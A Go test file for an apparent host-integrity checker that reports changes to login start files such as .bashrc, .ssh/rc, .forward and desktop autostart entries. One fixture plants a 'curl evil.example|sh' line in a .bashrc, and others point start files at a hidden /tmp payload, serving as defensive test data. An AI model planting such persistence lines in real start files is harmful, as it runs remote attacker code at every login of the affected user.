package accounts_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/pugetsoundtech/upkeep/host/hosttest"
	"github.com/pugetsoundtech/upkeep/integrity/integritytest"
	"github.com/pugetsoundtech/upkeep/integrity/inventory"
	"github.com/pugetsoundtech/upkeep/integrity/inventory/accounts"
	"github.com/pugetsoundtech/upkeep/report"
)

const (
	bobsHome = "-- /home/bob/ dir complete uid=1000 gid=1000 --\n-- /home/bob/.ssh/ dir complete uid=1000 gid=1000 --\n-- /home/bob/.config/ dir complete uid=1000 gid=1000 --\n"
	bobsRC   = "-- /home/bob/.bashrc uid=1000 gid=1000 mtime=2026-11-01T00:00:00Z ctime=2026-11-01T00:00:00Z --\numask 022\n"
)

func TestWhatRunsAtALoginIsTold(t *testing.T) {
	before := people + bobsHome + bobsRC
	for name, c := range map[string]struct{ after, want string }{
		"a start file":     {strings.NewReplacer("umask 022\n", "umask 022\n(curl evil.example|sh)&\n").Replace(before), "notice: What runs when bob logs in or gets mail: /home/bob/.bashrc changed"},
		"of somebody else": {strings.NewReplacer("/home/bob/.bashrc uid=1000", "/home/bob/.bashrc uid=1001").Replace(before), "warning: What runs when bob logs in or gets mail: /home/bob/.bashrc changed and belongs to user 1001"},
		"gone":             {people + bobsHome, "notice: What runs when bob logs in or gets mail: /home/bob/.bashrc is gone"},
		"for ssh":          {before + "-- /home/bob/.ssh/rc uid=1000 gid=1000 --\n/tmp/.x\n", "notice: What runs when bob logs in or gets mail: /home/bob/.ssh/rc is new"},
		"for mail":         {before + "-- /home/bob/.forward uid=1000 gid=1000 --\n|/tmp/.x\n", "notice: What runs when bob logs in or gets mail: /home/bob/.forward is new"},
		"for a desktop": {
			before + "-- /home/bob/.config/autostart/ dir complete uid=1000 gid=1000 --\n-- /home/bob/.config/autostart/x.desktop uid=1000 gid=1000 --\nExec=/tmp/.x\n",
			"notice: What runs when bob logs in or gets mail: /home/bob/.config/autostart/x.desktop is new",
		},
		"behind what is read of a long one": {before + "-- /home/bob/.zshrc uid=1000 gid=1000 mtime=2026-11-02T00:00:00Z --\n" + strings.Repeat("# long\n", 1<<14), "notice: What runs when bob logs in or gets mail: /home/bob/.zshrc is new"},
	} {
		t.Run(name, func(t *testing.T) {
			_, res := dayOf(t, before, c.after)
			assert.Equal(t, []string{c.want}, integritytest.Titles(res))
			assert.Equal(t, report.OK, res.Status, res.Problems)
			assert.True(t, res.Covers("accounts/starts"))
		})
	}
	_, broken := dayOf(t, before, before+"-- /home/bob/.bash_profile uid=1000 gid=1000 error=io --\n-- /home/ann/.profile uid=1001 gid=1001 --\n/tmp/.x\n")
	assert.Equal(t, report.OK, broken.Status, "what a user makes of his file is no fault of the check: %v", broken.Problems)
	assert.Contains(t, integritytest.Titles(broken), "warning: /home/bob/.bash_profile of bob cannot be read: input/output error")
	_, res := dayOf(t, before, strings.Replace(before, "ctime=2026-11-01", "ctime=2026-11-02", 1))
	assert.Empty(t, res.Findings, "the time alone is no change")
	_, res = dayOf(t, before, strings.Replace(before, "umask", "\numask", 1))
	assert.Contains(t, res.Findings[0].Evidence, report.Path.Of("/home/bob/.bashrc"))
	assert.Equal(t, report.Path.Of("/home/bob/.bashrc"), res.Findings[0].Subject, "a session explains changes of files")
	assert.Equal(t, report.At, res.Findings[0].Evidence[1].Key)
	_, res = dayOf(t, before, peopleWith("bob:x:1000:1000::/home/bob:/bin/sh\n", ""))
	assert.Len(t, res.Findings, 1, "what went with the account is one with it: %v", integritytest.Titles(res))
}

func TestManyStartsOfOneUserHideNoneOfAnother(t *testing.T) {
	crowd := people + bobsHome + "-- /home/bob/.config/autostart/ dir complete uid=1000 gid=1000 --\n"
	for _, n := range strings.Fields("a b c d e f g h") {
		for _, m := range strings.Fields("1 2 3 4 5 6 7 8 9") {
			crowd += "-- /home/bob/.config/autostart/" + n + m + " uid=1000 gid=1000 --\n"
		}
	}
	const ann = "bob:x:1000:1000::/home/bob:/bin/sh\nann:x:1002:1002::/home/ann:/bin/sh\n"
	crowd = strings.Replace(crowd, "bob:x:1000:1000::/home/bob:/bin/sh\n", ann, 1) + "-- /home/ann/ dir complete uid=1002 gid=1002 --\n"
	c := inventory.Check{Dir: t.TempDir(), Question: accounts.Users{Host: hosttest.New(crowd).Host()}}
	many := "warning: Of 72 files in /home/bob/.config/autostart, which run when bob logs in, 64 were looked at"
	res := integritytest.Collect(t, c)
	assert.Equal(t, []string{many}, integritytest.Titles(res))
	assert.Equal(t, report.OK, res.Status, res.Problems)
	c.Question = accounts.Users{Host: hosttest.New(crowd + "-- /home/ann/.profile uid=1002 gid=1002 --\n").Host()}
	assert.Equal(t, integritytest.Titles(integritytest.Collect(t, c)), []string{many, "notice: What runs when ann logs in or gets mail: /home/ann/.profile is new"})
}
